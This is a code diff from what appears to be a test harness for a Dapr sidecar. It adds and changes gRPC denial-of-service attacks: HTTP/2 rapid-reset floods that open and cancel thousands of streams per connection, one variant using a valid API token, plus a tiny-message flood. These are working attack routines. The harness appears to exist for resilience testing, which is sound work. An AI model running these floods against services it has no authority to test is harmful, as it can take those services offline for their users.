@@ -3,7 +3,15 @@ import { setTimeout as pause } from 'node:timers/promises';
 
 import type { Attack } from '../attack';
 import { openSockets, pour } from '../attack-sockets';
-import { body, callHeaders, message, openHttp2, preface, reset } from '../http2-frames';
+import {
+  AnsweredStreams,
+  body,
+  callHeaders,
+  message,
+  openHttp2,
+  preface,
+  reset,
+} from '../http2-frames';
 
 const DAPR = '/dapr.proto.runtime.v1.Dapr';
 const TRY_LOCK = `${DAPR}/TryLockAlpha1`;
@@ -11,7 +19,7 @@ const STRANGER = { 'dapr-api-token': 'guessed' };
 
 const ATTACK_MS = { small: 2000, full: 5000 } as const;
 
-/** Calls that are begun and cancelled in one piece. */
+/** Calls that are begun and cancelled in one piece; the first is stream 3. */
 function rapidly(
   headers: Readonly<Record<string, string>>,
   count: number,
@@ -19,8 +27,8 @@ function rapidly(
 ): Buffer {
   return Buffer.concat(
     Array.from({ length: count }, (_, index) => [
-      callHeaders(2 * index + 1, path, headers),
-      reset(2 * index + 1),
+      callHeaders(2 * index + 3, path, headers),
+      reset(2 * index + 3),
     ]).flat(),
   );
 }
@@ -92,6 +100,37 @@ export const grpcRapidResets: readonly Attack[] = [
   }),
 ];
 
+/** How long the call by which a connection becomes known may take: the sidecar is busy. */
+const KNOWN_WITHIN_MS = 2000;
+
+export const grpcRapidResetsKnown: Attack = {
+  name: 'grpc-rapid-resets-known',
+  description:
+    'One connection after another makes a call with the right token, then begins and cancels 2,000.',
+  kind: 'stall',
+  needs: { token: true },
+  run: async ({ target, size }) => {
+    const token = { 'dapr-api-token': target.token ?? '' };
+    const call = Buffer.concat([
+      callHeaders(1, `${DAPR}/GetMetadata`, token),
+      body(1, message(Buffer.alloc(0)), true),
+    ]);
+    const bytes = rapidly(token, 2000);
+    let known = 0;
+    const at = { port: target.grpcPort, attackers: 1, forMs: ATTACK_MS[size] };
+    await again(at, async (socket) => {
+      const answers = new AnsweredStreams(socket);
+      socket.write(call);
+      const until = performance.now() + KNOWN_WITHIN_MS;
+      while (!answers.ended.has(1) && performance.now() < until) await pause(5);
+      if (!answers.ended.has(1)) return;
+      known += 1;
+      await pour(socket, bytes, 1000);
+    });
+    return [{ what: 'connections that were known', value: known, atLeast: 1 }];
+  },
+};
+
 export const grpcResetsAtOnce: Attack = {
   name: 'grpc-resets-at-once',
   description: '500 connections are opened first; then all of them begin and cancel calls at once.',
@@ -152,11 +191,12 @@ export const grpcTinyFields: Attack = {
     for (const path of paths) {
       for (const bytes of Object.values(TINY)) {
         const socket = await openHttp2(target.grpcPort);
-        const calls = Array.from({ length: MESSAGES[size] }, (_, index) => [
-          callHeaders(2 * index + 1, path, token),
-          body(2 * index + 1, message(bytes), true),
-        ]);
-        await pour(socket, Buffer.concat(calls.flat()), 1000);
+        const endsAt = performance.now() + 1000;
+        for (let sent = 0; sent < MESSAGES[size] && performance.now() < endsAt; sent += 1) {
+          const stream = 2 * sent + 1;
+          const call = [callHeaders(stream, path, token), body(stream, message(bytes), true)];
+          await pour(socket, Buffer.concat(call), endsAt - performance.now());
+        }
         socket.destroy();
       }
     }
